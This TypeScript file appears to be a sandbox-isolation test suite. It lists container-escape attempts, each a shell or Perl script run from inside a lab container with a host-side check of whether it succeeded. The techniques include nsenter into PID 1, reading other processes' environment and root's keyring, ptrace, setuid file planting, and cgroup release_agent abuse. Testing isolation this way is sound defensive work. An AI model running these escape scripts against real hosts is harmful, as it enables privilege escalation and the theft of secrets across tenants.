// Attempts on processes of the machine, of other nodes and of other labs, and on what processes share.
import { type Attack, perl } from './attack.ts';

/** As the function `hold`, for a program that is named after the attempt, so that the machine can find it. */
const hold = 'echo holding; read -r _';

/** On the machine: for each process of the attempt. */
const eachProcess = (id: string, script: string): string =>
  `for file in $(grep --files-with-matches --no-messages --line-regexp --null-data labs-${id} /proc/[0-9]*/cmdline); do
    process=\${file%/cmdline}; ${script}
  done`;

/** Ids of the machine's own users. Nodes have ranges from 2^20. */
const lowIds = (text: string): readonly string[] => (text.match(/\d+/g) ?? []).filter((each) => Number(each) < 2 ** 20);

export const processes: readonly Attack[] = [
  {
    what: 'enter the namespaces of the first process of the machine',
    script: `for flags in --all '--mount --pid' --mount; do
        nsenter --target 1 $flags cat $MARKER 2>&1; refused "tried $flags"
      done`,
  },
  {
    what: "read the machine's files through the root folder of a process",
    script: `views; for proc in /proc $work/proc; do for process in $proc/[0-9]*; do
        cat $process/root$MARKER $process/cwd/../../../..$MARKER 2> /dev/null
      done; refused "tried $proc"; done`,
  },
  {
    what: 'see a process of the machine, of another node or of another lab',
    script: `views; for proc in /proc $work/proc; do
        grep -lxE "$VICTIMS" $proc/[0-9]*/comm 2> /dev/null | while read -r found; do escaped "sees $found"; done
        refused "tried $proc"
      done`,
  },
  {
    what: 'trace or signal a process of the machine, of another node or of another lab',
    script: perl(`
      my @victims = split /[|]/, $ENV{VICTIMS};
      for my $process (glob '/proc/[0-9]*') {
        my ($pid) = $process =~ /(\\d+)/; open my $file, '<', "$process/comm" or next; chomp(my $name = <$file> // '');
        next unless grep { $_ eq $name } @victims;
        verdict("signal $name", kill(0, $pid) ? 0 : -1);
        my $result = call('ptrace', 16, $pid + 0, 0, 0); verdict("trace $name", $result);
        if ($result != -1) { waitpid $pid, 0; call('ptrace', 17, $pid + 0, 0, 0) }
      }
      print "refused: tried all processes\\n";`),
  },
  {
    what: 'read the memory and the environment of all processes of the machine',
    script: `views; for proc in /proc $work/proc; do
        cat $proc/[0-9]*/environ 2> /dev/null | tr '\\0' '\\n' | grep -x "LABS_VICTIM=.*"; refused "tried $proc"
      done`,
  },
  {
    what: 'read a key in the keyring of the root of the machine',
    prepare: async ({ host, id, secret }) => {
      const key = `my ($type, $name, $secret) = ("user\\0", "labs-${id}\\0", '${secret}');`;
      await host.sh(perl(`${key} call('add_key', $type, $name, $secret, length $secret, -4);`));
      const remove = `${key} my $found = call('keyctl', 10, -4, $type, $name, 0); call('keyctl', 9, $found, -4);`;
      return { [Symbol.asyncDispose]: async () => void (await host.sh(perl(remove))) };
    },
    script: `views; for proc in /proc $work/proc; do
        grep --silent "labs-$ID" $proc/keys && escaped "sees the key in $proc/keys" || refused "$proc/keys"
      done
      ${perl(`
      # -4 is the user's keyring, -5 the one that the user's sessions share, -3 the session's.
      my ($type, $name, $text) = ("user\\0", "labs-$ENV{ID}\\0", "\\0" x 64);
      for my $ring (-4, -5, -3) {
        my $key = call('keyctl', 10, $ring, $type, $name, 0); verdict("find the key in $ring", $key);
        print "$text\\n" if $key > 0 && call('keyctl', 11, $key, $text, 64) > 0;
      }`)}`,
  },
  {
    what: 'attach to shared memory of the machine',
    prepare: async ({ host }) => {
      await host.sh(perl(`my $id = call('shmget', 0x6c616273, 4096, 0x380); die "$!" if $id == -1;`));
      const remove = `my $id = call('shmget', 0x6c616273, 0, 0); call('shmctl', $id, 0, 0) if $id != -1;`;
      return { [Symbol.asyncDispose]: async () => void (await host.sh(perl(remove))) };
    },
    script: perl(`verdict('shmget', call('shmget', 0x6c616273, 0, 0));`),
  },
  {
    what: 'run with the user id of root of the machine, or of any of its users',
    script: `echo 'refused: started'; exec -a labs-$ID bash -c '${hold}'`,
    meanwhile: async ({ host, id }) => {
      const { stdout } = await host.sh(eachProcess(id, "grep -E '^[UG]id' $process/status"));
      if (stdout === '') return 'no process of the attempt was found on the machine';
      return lowIds(stdout).length > 0 ? `its process has these ids on the machine: ${stdout}` : undefined;
    },
  },
  {
    what: 'leave a file on the machine that belongs to a user of the machine',
    script: `cp /usr/bin/true /root/labs-$ID && chmod 6755 /root/labs-$ID && echo 'refused: made'
      exec -a labs-$ID bash -c '${hold}'`,
    meanwhile: async ({ host, id }) => {
      const { stdout } = await host.sh(eachProcess(id, `stat -c %u:%g $process/root/root/labs-${id}`));
      if (stdout === '') return 'the file of the attempt was not found on the machine';
      return lowIds(stdout).length > 0 ? `its file belongs to ${stdout} on the machine` : undefined;
    },
  },
  {
    what: 'name a program in the release_agent of a cgroup hierarchy',
    script: `mkdir -p $work/cgroup; for options in none,name=labs-attack rdma memory devices pids cpu misc; do
        mount -t cgroup -o $options none $work/cgroup 2> /dev/null || refused "tried $options"
        opens $work/cgroup/release_agent; umount $work/cgroup 2> /dev/null
      done
      find /sys/fs/cgroup -name release_agent 2> /dev/null | while read -r file; do opens $file; done`,
  },
  {
    what: 'move a process of its own out of its cgroup',
    script: `for options in memory devices pids cpu cpuset blkio freezer; do
        mkdir -p $work/$options; mount -t cgroup -o $options none $work/$options
      done 2> /dev/null
      mkdir -p $work/unified; mount -t cgroup2 none $work/unified 2> /dev/null
      for folder in $work/* $work/*/.. /sys/fs/cgroup /sys/fs/cgroup/* /sys/fs/cgroup/*/..; do
        (echo $$ > $folder/cgroup.procs) 2> /dev/null; refused "tried $folder"
      done
      exec -a labs-$ID bash -c '${hold}'`,
    meanwhile: async ({ host, id, container }) => {
      const lines = (await host.sh(eachProcess(id, 'cat $process/cgroup'))).stdout
        .split('\n')
        .filter((line) => line !== '');
      if (lines.length === 0) return 'no process of the attempt was found on the machine';
      const own = await container('node01');
      return lines.find((line) => !line.includes(own.id) && !own.cgroups.includes(line));
    },
  },
];
